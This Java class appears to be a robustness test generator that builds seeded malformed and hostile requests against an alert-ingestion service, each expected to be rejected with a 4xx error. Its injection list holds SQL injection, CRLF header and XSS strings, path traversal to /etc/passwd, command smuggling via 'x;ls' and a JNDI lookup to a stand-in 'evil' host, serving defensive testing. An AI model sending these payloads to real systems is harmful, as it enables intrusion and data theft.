package dev.vigil.faults.scenario;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.vigil.faults.Payloads;
import java.io.ByteArrayOutputStream;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;

/**
 * Generates requests that must all be refused with a 4xx problem detail: broken and hostile input
 * for the three receivers and the API, from a seeded random source (the same seed, the same
 * requests). Every request is invalid by construction: truncated JSON is a strict prefix of an
 * object or array, the others break a type, a limit, the encoding or the media type.
 */
final class HostileRequests {
  /** One request and what kind of abuse it is. */
  record Request(
      String category,
      String method,
      String path,
      String contentType,
      byte[] body,
      boolean stream) {}

  private static final List<String> RECEIVERS =
      List.of("/v1/ingest/alertmanager", "/v1/ingest/k8s-events", "/v1/ingest/signals");
  private static final List<String> XML_ISH =
      List.of(
          "application/xml",
          "text/xml",
          "text/html",
          "application/x-www-form-urlencoded",
          "multipart/form-data; boundary=xyz",
          "application/octet-stream",
          "image/png");
  private static final List<String> INJECTIONS =
      List.of(
          "' or '1'='1",
          "x'; drop table resource_state; --",
          "x\r\nSet-Cookie: session=stolen",
          "x\r\n\r\n<script>alert(1)</script>",
          "a\u0000b",
          "../../etc/passwd",
          "k8s/prod/../../admin",
          "%00",
          "${jndi:ldap://evil/x}",
          "x\" or \"1\"=\"1",
          "{{7*7}}",
          "x;ls",
          "x y",
          "\\u0000");

  private final Random random;
  private final String run;
  private final int maxBody;
  private int oversizedLeft;

  HostileRequests(long seed, String run, int maxBodyBytes, int oversized) {
    this.random = new Random(seed);
    this.run = run;
    this.maxBody = maxBodyBytes;
    this.oversizedLeft = oversized;
  }

  List<Request> generate(int n) {
    List<Request> requests = new ArrayList<>(n);
    for (int i = 0; i < n; i++) {
      requests.add(next(i));
    }
    return requests;
  }

  private Request next(int i) {
    return switch (i % 12) {
      case 0 -> truncated();
      case 1 -> invalidUtf8();
      case 2 -> wrongTypes();
      case 3 -> hugeString();
      case 4 -> deepNesting();
      case 5 -> wrongContentType();
      case 6 -> oversizedLeft-- > 0 ? oversized() : missingFields();
      case 7 -> resourcePath();
      case 8 -> filters();
      case 9 -> incidents();
      case 10 -> mutations();
      default -> events();
    };
  }

  // ---- receivers ----

  private String receiver() {
    return RECEIVERS.get(random.nextInt(RECEIVERS.size()));
  }

  /** A valid body for the receiver (each would be accepted as it is). */
  private JsonNode valid(String receiver) {
    Instant now = Instant.now();
    return switch (receiver) {
      case "/v1/ingest/alertmanager" ->
          Payloads.alertmanagerWebhook(
              Map.of(
                  "alertname", "Hostile",
                  "resource_id", "faults/s7-" + run + "/host",
                  "severity", "warning"),
              "firing",
              now);
      case "/v1/ingest/k8s-events" -> eventrouterEvent(now);
      default -> {
        ArrayNode array = Payloads.JSON.createArrayNode();
        array.add(
            Payloads.envelope(
                run + "-s7-" + random.nextInt(),
                "faults/s7-" + run + "/host",
                "faults/host",
                "Hostile",
                "warning",
                "firing",
                now));
        yield array;
      }
    };
  }

  private ObjectNode eventrouterEvent(Instant now) {
    ObjectNode root = Payloads.JSON.createObjectNode();
    root.put("verb", "ADDED");
    ObjectNode event = root.putObject("event");
    event.putObject("metadata").put("name", "x.1").put("namespace", "s7").put("uid", "u-" + run);
    event
        .putObject("involvedObject")
        .put("kind", "Pod")
        .put("namespace", "s7")
        .put("name", "hostile-s7-" + run);
    event.put("reason", "BackOff");
    event.put("message", "hostile");
    event.put("type", "Warning");
    event.put("lastTimestamp", now.toString());
    event.put("count", 1);
    return root;
  }

  private Request truncated() {
    String receiver = receiver();
    byte[] body = valid(receiver).toString().getBytes(StandardCharsets.UTF_8);
    int cut = 1 + random.nextInt(body.length - 2);
    return new Request(
        "truncated JSON",
        "POST",
        receiver,
        "application/json",
        java.util.Arrays.copyOf(body, cut),
        false);
  }

  private Request invalidUtf8() {
    String receiver = receiver();
    String json = valid(receiver).toString();
    int at = json.indexOf("Hostile");
    if (at < 0) {
      at = json.indexOf("hostile");
    }
    byte[][] bad = {
      {(byte) 0xC3, (byte) 0x28},
      {(byte) 0xFF},
      {(byte) 0xED, (byte) 0xA0, (byte) 0x80},
      {(byte) 0x80}
    };
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    byte[] prefix = json.substring(0, at).getBytes(StandardCharsets.UTF_8);
    out.write(prefix, 0, prefix.length);
    byte[] b = bad[random.nextInt(bad.length)];
    out.write(b, 0, b.length);
    byte[] rest = json.substring(at).getBytes(StandardCharsets.UTF_8);
    out.write(rest, 0, rest.length);
    return new Request(
        "invalid UTF-8", "POST", receiver, "application/json", out.toByteArray(), false);
  }

  private JsonNode wrongValue() {
    JsonNodeFactory f = JsonNodeFactory.instance;
    return switch (random.nextInt(5)) {
      case 0 -> f.numberNode(random.nextInt());
      case 1 -> f.arrayNode().add("x");
      case 2 -> f.objectNode().put("x", 1);
      case 3 -> f.booleanNode(true);
      default -> f.numberNode(3.14);
    };
  }

  private Request wrongTypes() {
    String receiver = receiver();
    JsonNode body = valid(receiver);
    switch (receiver) {
      case "/v1/ingest/alertmanager" -> {
        ObjectNode alert = (ObjectNode) body.get("alerts").get(0);
        switch (random.nextInt(4)) {
          case 0 -> ((ObjectNode) body).set("alerts", wrongScalar());
          case 1 -> alert.set("labels", wrongScalar());
          case 2 -> alert.set("startsAt", wrongValue());
          default -> ((ObjectNode) alert.get("labels")).set("resource_id", wrongValue());
        }
      }
      case "/v1/ingest/k8s-events" -> {
        ObjectNode event = (ObjectNode) body.get("event");
        switch (random.nextInt(3)) {
          case 0 -> ((ObjectNode) body).set("event", wrongScalar());
          case 1 -> event.set("involvedObject", wrongScalar());
          default -> event.set("reason", wrongValue());
        }
      }
      default -> {
        ObjectNode envelope = (ObjectNode) body.get(0);
        String field =
            List.of("resourceId", "reason", "severity", "status", "observedAt", "labels")
                .get(random.nextInt(6));
        envelope.set(field, field.equals("labels") ? wrongScalar() : wrongValue());
      }
    }
    return json("wrong types", receiver, body);
  }

  private JsonNode wrongScalar() {
    JsonNodeFactory f = JsonNodeFactory.instance;
    return random.nextBoolean() ? f.numberNode(7) : f.textNode("not-an-object");
  }

  private Request hugeString() {
    String receiver = receiver();
    JsonNode body = valid(receiver);
    String huge = "h".repeat(5_000 + random.nextInt(200_000));
    switch (receiver) {
      case "/v1/ingest/alertmanager" ->
          ((ObjectNode) body.get("alerts").get(0).get("labels"))
              .put(random.nextBoolean() ? "resource_id" : "alertname", huge);
      case "/v1/ingest/k8s-events" ->
          ((ObjectNode) body.get("event").get("involvedObject"))
              .put(random.nextBoolean() ? "name" : "namespace", huge);
      default ->
          ((ObjectNode) body.get(0))
              .put(List.of("resourceId", "reason", "resourceType").get(random.nextInt(3)), huge);
    }
    return json("huge strings", receiver, body);
  }

  private Request deepNesting() {
    String receiver = receiver();
    int depth = 100 + random.nextInt(50);
    if (random.nextBoolean()) {
      String nested = "[".repeat(depth) + "]".repeat(depth);
      return new Request(
          "100-deep nesting",
          "POST",
          receiver,
          "application/json",
          nested.getBytes(StandardCharsets.UTF_8),
          false);
    }
    ObjectNode deep = Payloads.JSON.createObjectNode();
    ObjectNode cursor = deep;
    for (int d = 0; d < depth; d++) {
      cursor = cursor.putObject("a");
    }
    JsonNode body = valid(receiver);
    switch (receiver) {
      case "/v1/ingest/alertmanager" ->
          ((ObjectNode) body.get("alerts").get(0)).set("labels", deep);
      case "/v1/ingest/k8s-events" -> ((ObjectNode) body.get("event")).set("involvedObject", deep);
      default -> ((ObjectNode) body.get(0)).set("labels", deep);
    }
    return json("100-deep nesting", receiver, body);
  }

  private Request wrongContentType() {
    String receiver = receiver();
    String type = XML_ISH.get(random.nextInt(XML_ISH.size()));
    byte[] body =
        type.contains("xml")
            ? "<alerts><alert name=\"x\"/></alerts>".getBytes(StandardCharsets.UTF_8)
            : valid(receiver).toString().getBytes(StandardCharsets.UTF_8);
    return new Request("wrong content type", "POST", receiver, type, body, false);
  }

  private Request oversized() {
    String receiver = receiver();
    byte[] body = new byte[maxBody + 1 + random.nextInt(1024)];
    java.util.Arrays.fill(body, (byte) ' ');
    body[0] = '[';
    body[body.length - 1] = ']';
    return new Request("oversized body", "POST", receiver, "application/json", body, false);
  }

  private Request missingFields() {
    String receiver = receiver();
    JsonNode body = valid(receiver);
    switch (receiver) {
      case "/v1/ingest/alertmanager" -> {
        if (random.nextBoolean()) {
          ((ObjectNode) body).remove("alerts");
        } else {
          ((ObjectNode) body.get("alerts").get(0)).remove("labels");
        }
      }
      case "/v1/ingest/k8s-events" -> ((ObjectNode) body.get("event")).remove("involvedObject");
      default -> ((ObjectNode) body.get(0)).remove(random.nextBoolean() ? "resourceId" : "reason");
    }
    return json("missing fields", receiver, body);
  }

  private Request json(String category, String receiver, JsonNode body) {
    return new Request(
        category,
        "POST",
        receiver,
        "application/json",
        body.toString().getBytes(StandardCharsets.UTF_8),
        false);
  }

  // ---- API ----

  private String injection() {
    return INJECTIONS.get(random.nextInt(INJECTIONS.size()));
  }

  private static String enc(String s) {
    return URLEncoder.encode(s, StandardCharsets.UTF_8).replace("+", "%20");
  }

  private Request resourcePath() {
    String id =
        switch (random.nextInt(4)) {
          case 0 -> injection();
          case 1 -> "k8s/x/" + "y".repeat(2_000 + random.nextInt(5_000));
          case 2 -> "docker/service/../../" + run;
          default -> "a\tb" + run;
        };
    return new Request("bad resource id", "GET", "/v1/resources/" + enc(id), null, null, false);
  }

  private Request filters() {
    String query =
        switch (random.nextInt(6)) {
          case 0 -> "healthState=" + enc(injection());
          case 1 -> "type=" + enc(injection());
          case 2 -> "cluster=" + enc(injection());
          case 3 ->
              "limit="
                  + enc(List.of("-1", "0", "abc", "1e99", "99999999999999").get(random.nextInt(5)));
          case 4 ->
              "cursor=" + enc(List.of("garbage", "a.b.c.d", "!!!", "%%%").get(random.nextInt(4)));
          default -> "type=" + enc("t".repeat(300 + random.nextInt(2_000)));
        };
    return new Request("filter injection", "GET", "/v1/resources?" + query, null, null, false);
  }

  private Request incidents() {
    return switch (random.nextInt(3)) {
      case 0 ->
          new Request(
              "filter injection",
              "GET",
              "/v1/incidents?status=" + enc(injection()),
              null,
              null,
              false);
      case 1 ->
          new Request(
              "filter injection",
              "GET",
              "/v1/incidents?resourceId=" + enc(injection()),
              null,
              null,
              false);
      default ->
          new Request(
              "bad incident id", "GET", "/v1/incidents/" + enc(injection()), null, null, false);
    };
  }

  private Request mutations() {
    if (random.nextBoolean()) {
      String id = random.nextBoolean() ? injection() : "faults/s7-" + run + "/host";
      String body =
          switch (random.nextInt(5)) {
            case 0 -> "{\"reason\": 5}";
            case 1 -> "{\"reason\": [\"x\"]}";
            case 2 -> "{\"reason\": \"" + "r".repeat(2_000 + random.nextInt(20_000)) + "\"}";
            case 3 -> "{\"reason\": \"x\"";
            default -> "{\"reason\": \"\"}";
          };
      return new Request(
          "bad mutation",
          "POST",
          "/v1/resources/" + enc(id) + "/mitigation/cancel",
          "application/json",
          body.getBytes(StandardCharsets.UTF_8),
          false);
    }
    String step =
        List.of("abc", "0", "-5", "99999999999", "1.5", "101", "1", "1").get(random.nextInt(8));
    String body =
        switch (random.nextInt(4)) {
          case 0 -> "{\"decision\": \"maybe\"}";
          case 1 -> "{\"decision\": 1}";
          case 2 -> "{\"decision\": \"approve\", \"comment\": \"" + "c".repeat(5_000) + "\"}";
          default -> "[\"approve\"";
        };
    return new Request(
        "bad mutation",
        "POST",
        "/v1/incidents/"
            + enc(random.nextBoolean() ? injection() : "inc-" + run)
            + "/approvals/"
            + step,
        "application/json",
        body.getBytes(StandardCharsets.UTF_8),
        false);
  }

  private Request events() {
    String query =
        switch (random.nextInt(3)) {
          case 0 ->
              "severities="
                  + enc(List.of("bogus", "critical,x", "CRIT1CAL").get(random.nextInt(3)));
          case 1 -> "types=" + enc(injection());
          default -> "namespaces=" + enc(injection());
        };
    return new Request("filter injection", "GET", "/v1/events?" + query, null, null, true);
  }
}
